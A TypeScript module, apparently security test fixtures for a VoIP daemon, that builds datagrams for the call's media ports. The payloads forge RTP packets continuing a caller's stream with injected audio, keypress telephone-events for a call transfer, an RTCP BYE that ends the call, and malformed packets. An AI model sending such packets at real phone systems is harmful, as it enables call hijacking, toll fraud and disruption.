import { STUN } from './attacks.js'
import { encodeAlaw, tone } from './tone.js'

/** The pace of the call's own packets. */
export const PACKET_MS = 20

/** What the stranger would have the user hear. */
export const STRANGE_HZ = 3100

const SAMPLES = 160
const PACKETS = 50
/** What a hijacker needs to be before the caller. */
const AHEAD = 3

/** An RTP packet (RFC 3550 §5.1) that goes on where the caller's own stream is: `last` is the header of one of theirs. */
function rtp(last: Buffer, payloadType: number, ahead: number, payload: Uint8Array): Uint8Array {
  const packet = Buffer.from([...last, ...payload])
  packet.writeUInt8(payloadType, 1)
  packet.writeUInt16BE((last.readUInt16BE(2) + ahead) & 0xffff, 2)
  packet.writeUInt32BE((last.readUInt32BE(4) + ahead * SAMPLES) >>> 0, 4)
  return packet
}

const numbers = Array.from({ length: PACKETS }, (_, index) => index)

/** RFC 4733 §2.3: a key as an event, begun and ended. */
const key = (last: Buffer, event: number, ahead: number): Uint8Array[] =>
  [0x0a, 0x8a].map((flags, index) =>
    rtp(last, 101, ahead + index, Uint8Array.from([event, flags, 0x03, 0x20])),
  )

/** Datagrams to the port at which the daemon takes the sound of the call (`offset` 1: its RTCP). */
export const SOUND_ATTACKS: readonly {
  readonly name: string
  readonly offset: 0 | 1
  readonly payloads: (last: Buffer) => readonly Uint8Array[]
}[] = [
  {
    name: 'RTP with a sound of their own',
    offset: 0,
    payloads: (last) => {
      const voice = tone(STRANGE_HZ, SAMPLES * PACKETS)
      return numbers.map((n) =>
        rtp(
          last,
          8,
          n + AHEAD,
          Uint8Array.from(voice.slice(n * SAMPLES, (n + 1) * SAMPLES), encodeAlaw),
        ),
      )
    },
  },
  {
    name: 'the keys of a transfer as telephone-events',
    offset: 0,
    payloads: (last) =>
      [11, 1, 2, 0, 2, 11].flatMap((event, index) => key(last, event, AHEAD + index * 2)),
  },
  {
    name: 'RTCP that says goodbye',
    offset: 1,
    // RFC 3550 §6.4.2, §6.6: an empty receiver report, then BYE.
    payloads: () => [Uint8Array.from([0x80, 201, 0, 1, 1, 2, 3, 4, 0x81, 203, 0, 1, 1, 2, 3, 4])],
  },
  {
    name: 'STUN, garbage and nothing at the port of the sound',
    offset: 0,
    payloads: () => [STUN, new Uint8Array(1400).fill(0x80), new Uint8Array(), Uint8Array.of(0x80)],
  },
]
